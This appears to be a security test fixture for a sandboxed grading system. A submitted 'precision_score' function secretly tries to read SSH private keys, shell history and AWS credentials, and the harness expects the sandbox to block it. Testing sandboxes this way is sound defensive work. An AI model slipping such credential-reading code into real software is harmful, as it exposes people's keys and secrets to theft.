# ruff: noqa: E501
# ATTACK: steal ~/.ssh keys, shell history and cloud credentials of the instructor
# DEFENCE: mount namespace (HOME is the sandbox /tmp; /root holds only the bound Python install)
# EXPECT: {"chapter": "07_metrics", "target": "precision_score", "scope": "exercise", "category": "forbidden", "reason": "FileNotFoundError.*no key"}
import glob
import os


def precision_score(
    y_true,
    y_pred,
    *,
    labels=None,
    pos_label=1,
    average="binary",
    sample_weight=None,
    zero_division="warn",
):
    candidates = [os.path.expanduser("~/.ssh/id_rsa"), "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519"]
    candidates += glob.glob("/home/*/.ssh/*") + ["/root/.bash_history", "/root/.aws/credentials"]
    for path in candidates:
        try:
            with open(path) as f:
                return float(len(f.read()))
        except OSError:
            pass
    raise FileNotFoundError("no key")
